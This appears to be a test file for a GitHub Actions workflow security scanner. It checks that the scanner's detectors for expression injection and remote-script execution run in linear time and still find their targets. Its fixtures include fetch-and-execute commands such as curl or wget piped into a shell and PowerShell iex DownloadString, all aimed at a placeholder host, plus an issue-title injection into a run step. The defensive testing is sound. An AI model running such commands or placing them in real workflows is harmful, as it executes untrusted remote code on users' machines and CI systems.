// The workflow text scans on the inputs that made their old patterns super-linear (issue 13): each
// grows linearly with its input (expectNoBlowUp), and still finds what it finds on ordinary text.
import { parseFile } from "../../src/core/review.js";
import { expressions, injectionsIn, remoteScriptsIn, shellWords } from "../../src/core/surfaces/workflow-steps.js";
import { expectNoBlowUp } from "../helpers.js";

/** `unit` repeated to about `size` characters. */
const rep = (unit: string, size: number) => unit.repeat(Math.max(1, Math.floor(size / unit.length)));

describe("`${{` without `}}` is scanned once, not from every `${{` to the end", () => {
  test.each([
    ["expressions", (s: string) => expressions(s)],
    ["injectionsIn", (s: string) => injectionsIn(s)],
    ["shellWords", (s: string) => shellWords(s)],
  ])("%s", (_, scan) => {
    expectNoBlowUp((n) => rep("${{", n), scan, 5_000, 100_000);
  });

  test("closed expressions are still read, each up to its first `}}`", () => {
    expect(expressions("a ${{ secrets.A }} ${{ github.event.issue.title }}}} ${{ x")).toEqual(["secrets.A", "github.event.issue.title"]);
    expect(injectionsIn("${{ x }}\n${{ github.event.issue.title }}")).toEqual([{ expr: "github.event.issue.title", lineOffset: 1 }]);
    expect(shellWords('--allowedTools "Bash(git:*)" --x ${{ inputs.a }}')).toEqual(["--allowedTools", "Bash(git:*)", "--x", "${{ inputs.a }}"]);
  });
});

/**
 * Best-of-three time of `run` on 200,000 characters in lines of `short` vs `long` characters: the same
 * text amount, so linear work costs the same; work quadratic within a line grows with `long / short`.
 * A relative bound (3x, plus 10 ms for timer and GC noise; the old patterns took 10x to 25x), measured in this process.
 */
function expectFlatInLineLength(line: (length: number) => string, run: (text: string) => unknown, short: number, long: number): void {
  const text = (length: number) => Array.from({ length: Math.ceil(200_000 / length) }, () => line(length)).join("\n");
  const time = (t: string) => {
    const started = performance.now();
    run(t);
    return performance.now() - started;
  };
  const [a, b] = [text(short), text(long)];
  run(a);
  const base = Math.min(time(a), time(a), time(a));
  const took = Math.min(time(b), time(b), time(b));
  if (took > base * 3 + 10) throw new Error(`lines of ${long} took ${took.toFixed(1)} ms, lines of ${short} ${base.toFixed(1)} ms`);
}

describe("remote scripts: one statement is read once, whatever repeats in it", () => {
  // Statements are read up to 2,000 characters: the old patterns were quadratic within that cap
  // (and `iex` then spaces cubic), so the same text in longer lines cost more.
  test.each([
    ["download words and no pipe", "curl x "],
    ["interpreters and no `$(`", "sh -c x "],
    ["`(new-object` and no `)`", "(new-object a "],
    ["`#` after spaces before a carriage return", "\t#"],
  ])("%s", (_, unit) => {
    expectFlatInLineLength((n) => rep(unit, n - 2) + "\r#", remoteScriptsIn, 100, 1_950);
  });

  test("`iex` followed by spaces", () => {
    expectFlatInLineLength((n) => "iex" + " ".repeat(n - 4) + "x", remoteScriptsIn, 100, 1_950);
  });

  test("`\\` continuations are joined in linear time (the joined statement was re-tested and re-copied per line)", () => {
    expectNoBlowUp((n) => rep("echo a \\\n", n) + "curl -fsSL https://x.example/i.sh | sh\n", remoteScriptsIn, 10_000, 190_000);
  });

  test("the shapes are still found, as written", () => {
    const found = (s: string) => remoteScriptsIn(s).found.map((f) => f.script);
    expect(found("curl -fsSL https://x.example/i.sh | sudo -E bash -s -- --y && echo ok")).toEqual(["curl -fsSL https://x.example/i.sh | sudo -E bash -s -- --y"]);
    expect(found("bash <(curl -s https://x.example/a)")).toEqual(["bash <(curl -s https://x.example/a)"]);
    expect(found('sh -c "$(wget -qO- https://x.example/a)"; echo')).toEqual(['sh -c "$(wget -qO- https://x.example/a)"']);
    expect(found("iex ((New-Object Net.WebClient).DownloadString('https://x.example/a'))")).toEqual(["iex ((New-Object Net.WebClient).DownloadString('https://x.example/a'))"]);
    expect(found("(New-Object Net.WebClient).DownloadString('https://x.example/a(1)') | iex | iex # x")).toEqual(["(New-Object Net.WebClient).DownloadString('https://x.example/a(1)') | iex | iex"]);
    expect(found("echo a \\\n  && curl https://x.example/a \\\n  | sh")).toEqual(["curl https://x.example/a | sh"]);
    expect(found("echo hi # curl https://x.example/a | sh")).toEqual([]);
  });
});

test("the line of a finding inside a value: a key line of many `:>#` is read once (the block-scalar pattern was quadratic)", () => {
  const workflow = (n: number) => `on: issues\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: "echo \${{ github.event.issue.title }} ${rep(":>#", n)}\u2028"\n`;
  const run = (text: string) => parseFile(".github/workflows/w.yml", text);
  expect(run(workflow(30)).capabilities.some((c) => JSON.stringify(c.attrs).includes("github.event.issue.title"))).toBe(true);
  expectNoBlowUp(workflow, run, 5_000, 100_000);
  // A block scalar still places the finding on its own line.
  const block = parseFile(".github/workflows/w.yml", "on: issues\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |  # two lines\n          echo a\n          echo ${{ github.event.issue.title }}\n");
  expect(block.capabilities.flatMap((c) => Object.values(c.locations ?? {})).some((l) => (typeof l === "number" ? l : l.line) === 8)).toBe(true);
});
